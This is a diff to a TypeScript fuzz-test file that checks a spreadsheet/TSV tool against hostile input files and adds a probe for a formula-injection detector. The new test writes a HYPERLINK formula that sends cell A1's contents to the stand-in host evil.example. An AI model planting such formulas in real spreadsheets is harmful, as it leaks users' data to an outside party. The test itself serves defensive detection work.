@@ -5,9 +5,10 @@
  */
 import { mkdirSync, readdirSync, readFileSync, symlinkSync } from "fs";
 import { join } from "path";
+import ExcelJS from "exceljs";
 import { cli, SAMPLE_TSV, tempDir } from "./helpers";
 import { generateHostile, type HostileFile } from "../support/hostile-files";
-import { examine, fingerprint, leanReaderPresent, type Verdict } from "../support/fuzz-check";
+import { examine, fingerprint, injectedFormulas, leanReaderPresent, type Verdict } from "../support/fuzz-check";
 
 const COUNT = Number(process.env.FUZZ_CI_COUNT ?? 300);
 const SEED = 13;
@@ -54,6 +55,15 @@ describe(`${COUNT} hostile files (seed ${SEED})`, () => {
     const changed = [...before].filter(([f, h]) => fingerprint(join(dir, "in", f)) !== h).map(([f]) => f);
     expect(changed).toEqual([]);
     expect(readdirSync(join(dir, "in")).filter((f) => !before.has(f))).toEqual([]);
+  });
+
+  it("the formula probe finds a payload written as a formula (it can fail)", async () => {
+    const wb = new ExcelJS.Workbook();
+    wb.addWorksheet("x").getCell("B2").value = { formula: "HYPERLINK(\"http://evil.example/?x=\"&A1,\"bấm vào\")" };
+    const path = join(dir, "probe.xlsx");
+    await wb.xlsx.writeFile(path);
+    expect(injectedFormulas(path, ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"bấm vào\")"])).toHaveLength(1);
+    expect(injectedFormulas(path, ["=1+1"])).toEqual([]);
   });
 
   it("never write a user string as a formula", () => {
